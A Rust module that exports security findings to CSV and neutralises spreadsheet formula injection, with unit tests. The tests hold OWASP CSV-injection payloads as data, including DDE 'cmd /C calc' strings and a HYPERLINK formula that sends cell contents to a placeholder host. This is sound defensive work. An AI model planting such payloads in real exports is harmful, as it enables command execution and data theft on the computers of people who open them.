//! The CSV export: the findings table, one row per finding.

use super::json::time;
use crate::model::Finding;
use crate::store::Store;

pub const HEADER: [&str; 15] = [
    "id",
    "product_arn",
    "product",
    "account_id",
    "region",
    "severity",
    "title",
    "types",
    "resources",
    "workflow_status",
    "record_state",
    "compliance_status",
    "control_id",
    "first_observed_at",
    "updated_at",
];

/// What makes a spreadsheet read a cell as a formula (OWASP's list, and `|` `%` that
/// Excel's DDE and other importers take).
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '|', '%'];

/// What may start a new cell for some importer: the separators of other locales and
/// LibreOffice's choices (`;`, tab, space), line breaks, and quotes.
const SEPARATORS: [char; 8] = [',', ';', '\t', ' ', '|', '\r', '\n', '"'];

/// A cell as a spreadsheet can only read as text (OWASP's CSV-injection guidance): a `'`
/// goes first when the cell starts with a trigger, a tab, a carriage return or a NUL, when
/// a trigger follows leading whitespace, or when one follows a separator inside the cell
/// (a `;`-locale Excel or a tab-separated import would start a new cell there). Control
/// characters are made visible as on screen. Every cell is also written quoted.
pub fn neutralise(raw: &str) -> std::borrow::Cow<'_, str> {
    let cell = raw;
    let leading = cell.trim_start_matches([' ', '\t', '\r', '\n', '\0', '\u{a0}']);
    let starts_badly = cell.starts_with(['\t', '\r', '\0']) || leading.starts_with(TRIGGERS);
    let inner = cell.char_indices().any(|(i, c)| {
        SEPARATORS.contains(&c)
            && cell[i + c.len_utf8()..]
                .trim_start_matches([' ', '\t', '\u{a0}', '"', '\''])
                .starts_with(TRIGGERS)
    });
    let cell = crate::util::sanitize::clean_cell(raw);
    if starts_badly || inner {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        cell
    }
}

fn row(f: &Finding) -> [String; 15] {
    [
        f.id.to_string(),
        f.product_arn.to_string(),
        f.product.to_string(),
        f.account_id.to_string(),
        f.region.to_string(),
        f.severity.label().to_string(),
        f.title.to_string(),
        f.types.join(";"),
        f.resources
            .iter()
            .map(|r| &*r.id)
            .collect::<Vec<_>>()
            .join(";"),
        f.workflow_status.label().to_string(),
        f.record_state.label().to_string(),
        f.compliance_status
            .as_deref()
            .unwrap_or_default()
            .to_string(),
        f.control_id.as_deref().unwrap_or_default().to_string(),
        f.first_observed_at.map(time).unwrap_or_default(),
        time(f.updated_at),
    ]
}

pub fn findings(store: &Store) -> Vec<u8> {
    let mut list: Vec<&Finding> = store.findings.items().iter().collect();
    list.sort_by(|a, b| (&a.id, &a.product_arn).cmp(&(&b.id, &b.product_arn)));
    let mut w = csv::WriterBuilder::new()
        .quote_style(csv::QuoteStyle::Always)
        .from_writer(Vec::new());
    // Writing to a Vec cannot fail.
    let _ = w.write_record(HEADER);
    for f in list {
        let cells = row(f);
        let _ = w.write_record(cells.iter().map(|c| neutralise(c).into_owned()));
    }
    w.into_inner().unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Hardening 8: OWASP's payloads, and formulas after a separator inside a cell.
    #[test]
    fn hardening_08_csv_formulas_are_neutralised_as_owasp_says() {
        let cases = [
            ("=1+2\";=1+2", "'=1+2\";=1+2"),
            ("=1+2'\" ;,=1+2", "'=1+2'\" ;,=1+2"),
            (
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "'@SUM(1+1)*cmd|' /C calc'!A0",
            ),
            ("=cmd|' /C calc'!'A1'", "'=cmd|' /C calc'!'A1'"),
            (
                "DDE (\"cmd\";\"/C calc\";\"!A0\")A0",
                "DDE (\"cmd\";\"/C calc\";\"!A0\")A0",
            ),
            (
                "   =HYPERLINK(\"http://e/\"&A1,\"x\")",
                "'   =HYPERLINK(\"http://e/\"&A1,\"x\")",
            ),
            ("|cmd", "'|cmd"),
            ("%0A=1", "'%0A=1"),
            ("x;=1+1", "'x;=1+1"),
            (
                "x;@SUM(1+1)*cmd|' /C calc'!A0",
                "'x;@SUM(1+1)*cmd|' /C calc'!A0",
            ),
            ("plain title", "plain title"),
            ("arn:aws:s3:::logs;i-0abc", "arn:aws:s3:::logs;i-0abc"),
            ("2026-01-02T03:04:05Z", "2026-01-02T03:04:05Z"),
        ];
        for (input, want) in cases {
            assert_eq!(neutralise(input), want, "{input:?}");
        }
        // A leading tab or carriage return is made visible and still prefixed.
        for input in ["\t=cmd|' /C calc'!A0", "\r=1+1", "\u{0}=1"] {
            let out = neutralise(input);
            assert!(out.starts_with('\''), "{input:?} -> {out:?}");
            assert!(!out.contains(['\t', '\r', '\0']), "{out:?}");
        }
        // Written quoted, so a separator inside a cell never starts a new one.
        let mut w = csv::WriterBuilder::new()
            .quote_style(csv::QuoteStyle::Always)
            .from_writer(Vec::new());
        w.write_record([neutralise("=1+2\";=1+2").as_ref()])
            .unwrap();
        assert_eq!(
            String::from_utf8(w.into_inner().unwrap()).unwrap(),
            "\"'=1+2\"\";=1+2\"\n",
            "OWASP's escaped output"
        );
    }

    #[test]
    fn formula_cells_are_neutralised() {
        assert_eq!(neutralise("=HYPERLINK(\"x\")"), "'=HYPERLINK(\"x\")");
        assert_eq!(neutralise("+1"), "'+1");
        assert_eq!(neutralise("-cmd"), "'-cmd");
        assert_eq!(neutralise("@SUM"), "'@SUM");
        assert_eq!(neutralise("plain"), "plain");
    }
}
